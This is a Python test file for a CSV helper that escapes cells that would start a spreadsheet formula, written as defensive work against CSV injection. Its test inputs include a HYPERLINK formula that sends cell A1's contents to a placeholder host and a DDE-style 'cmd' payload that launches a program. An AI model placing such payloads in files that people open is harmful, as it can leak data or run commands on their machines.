"""Tables that are opened in a spreadsheet: no cell begins a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.utils.csv_file import csv_cell, csv_text, write_csv
from common.utils.text_file import number

FORMULA = '=HYPERLINK("http://x/?"&A1)'


@pytest.mark.parametrize(
    "cell",
    [FORMULA, "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "-", "-P01", "\uff1d1"],
)
def test_a_cell_that_begins_a_formula_is_a_text(cell: str) -> None:
    assert csv_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [-0.5, "-0.5", "+1e-3", "-12", -3, 0, None, True, float("-inf")])
def test_a_number_stays_a_number(cell: object) -> None:
    assert csv_cell(cell) is cell


@given(st.lists(st.lists(st.text() | st.floats(allow_nan=False), min_size=1), min_size=1))
def test_no_cell_read_back_begins_a_formula(rows: list[list[object]]) -> None:
    for row in csv.reader(io.StringIO(csv_text(rows), newline="")):
        for cell in row:
            unsafe = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert not unsafe or number(cell) is not None or cell == "-inf"


def test_the_plain_writer_would_let_a_formula_through(tmp_path: Path) -> None:
    plain = io.StringIO()
    csv.writer(plain).writerow([FORMULA])
    assert next(csv.reader([plain.getvalue()]))[0].startswith("=")
    write_csv(tmp_path / "t.csv", [["patient_id"], [FORMULA]])
    assert (tmp_path / "t.csv").read_text().splitlines()[1].startswith("\"'=HYPER")


def test_only_this_module_and_the_maker_of_cohorts_write_csv() -> None:
    root = Path(__file__).parents[3]
    found = {
        str(path.relative_to(root))
        for folder in ("client", "common", "server", "strategies", "sim")
        for path in (root / folder).rglob("*.py")
        if any(w in path.read_text() for w in ("csv.writer", "csv.DictWriter", ".to_csv("))
    }
    # a cohort is read back, cell by cell as it was
    cohorts = {
        "client/importing/table.py",
        "sim/leave_one_out.py",
        "sim/phantom/generate.py",
        "sim/run.py",
    }
    assert found == {"common/utils/csv_file.py"} | cohorts
